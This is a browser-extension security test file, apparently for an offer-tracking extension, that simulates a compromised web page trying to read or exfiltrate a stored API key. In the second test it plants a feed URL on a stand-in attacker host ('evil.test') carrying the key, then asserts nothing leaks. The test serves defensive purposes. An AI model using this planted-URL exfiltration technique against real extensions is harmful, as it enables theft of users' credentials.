import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { badgeText, type ChromiumWorld, contentScriptWorld, startDemoWorld } from '../../support/chromium';
import { E2E_API_KEY, PLAY_SPOTIFY } from '../../support/constants';

let world: ChromiumWorld;

beforeAll(async () => {
  world = await startDemoWorld();
});
afterAll(() => world?.close());

/** Everything the extension's storage areas hold, read from its own service worker. */
function allStorage() {
  return world.ext.worker.evaluate(async () => ({
    local: await chrome.storage.local.get(null),
    sync: await chrome.storage.sync.get(null),
  }));
}

describe("the content script's world (where a compromised store page can run code)", () => {
  it('cannot read the API key from any storage area, nor from IndexedDB', async () => {
    const page = await world.ext.context.newPage();
    await page.goto(PLAY_SPOTIFY);
    await expect.poll(() => badgeText(page)).toContain('Spotify');
    const cs = await contentScriptWorld(page);
    const seen = await cs.run<string>(`
      const read = async (area) => {
        try { return JSON.stringify(await chrome.storage[area].get(null)); } catch (e) { return 'refused: ' + e.message; }
      };
      const dbs = await indexedDB.databases();
      return JSON.stringify({ local: await read('local'), sync: await read('sync'), session: await read('session'), dbs });
    `);
    expect(seen).not.toContain(E2E_API_KEY);
    expect(seen).not.toContain(encodeURIComponent(E2E_API_KEY));
    expect(seen).not.toContain('offer-lens');
    // Nor can it ask the background for it.
    const reveal = await cs.run<unknown>(
      "return chrome.runtime.sendMessage({ tag: 'offer-lens/v1', type: 'revealApiKey', data: {} });",
    );
    expect(reveal).toEqual({ ok: false, error: { code: 'not-allowed', message: 'Not allowed from a web page' } });
    await cs.detach();
    await page.close();
  });

  it('cannot steer the background: writes to every storage key send the key nowhere and refetch at most once', async () => {
    const page = await world.ext.context.newPage();
    await page.goto(PLAY_SPOTIFY);
    await expect.poll(() => badgeText(page)).toContain('Spotify');
    const cs = await contentScriptWorld(page);
    const keys = await allStorage();
    const hostile = {
      settings: {
        ...(keys.sync.settings as object),
        feedUrl: 'https://play.google.com/feed?k={apiKey}',
        refreshMinutes: 0,
      },
      status: {
        nextAttemptAt: 0,
        lastAttemptAt: null,
        lastSuccessAt: null,
        failures: 0,
        refreshing: false,
        error: null,
      },
      summary: { fetchedAt: 0, source: 'feed', offerCount: 1, rejectedCount: 0 },
    };
    // From the content script's world: Chrome refuses (the background restricted the areas).
    const attempts = await cs.run<string[]>(`
      const out = [];
      for (const area of ['local', 'sync', 'session']) {
        try { await chrome.storage[area].set(${JSON.stringify(hostile)}); out.push(area + ': written'); }
        catch (e) { out.push(area + ': refused'); }
      }
      return out;
    `);
    expect(attempts).toEqual(['local: refused', 'sync: refused', 'session: refused']);

    // Firefox lets content scripts write storage.local and storage.sync: do what such a script
    // could, for every key both areas hold, then once more with the feed on an attacker's host.
    const requestsBefore = world.feed.requests;
    for (const [area, values] of Object.entries(keys)) {
      for (const key of Object.keys(values)) {
        const value = (hostile as Record<string, unknown>)[key] ?? { hostile: true };
        await world.ext.worker.evaluate(([a, k, v]) => chrome.storage[a as 'local'].set({ [k as string]: v }), [
          area,
          key,
          value,
        ] as const);
      }
    }
    await world.ext.worker.evaluate((settings) => chrome.storage.sync.set({ settings }), {
      ...hostile.settings,
      feedUrl: 'https://evil.test/feed?k={apiKey}',
    });
    await new Promise((resolve) => setTimeout(resolve, 3000));

    const leaked = world.store.requests.filter(
      (r) => r.url.includes(E2E_API_KEY) || r.url.includes(encodeURIComponent(E2E_API_KEY)) || r.host === 'evil.test',
    );
    expect(leaked).toEqual([]);
    expect(world.feed.requests - requestsBefore).toBeLessThanOrEqual(1);
    // The popup still lists the real offers, not a planted count.
    const popup = await world.ext.openPage('popup.html', { width: 400, height: 600 });
    await expect.poll(() => popup.locator('.offer-row').count()).toBeGreaterThan(1);
    await cs.detach();
    await Promise.all([page.close(), popup.close()]);
  });
});
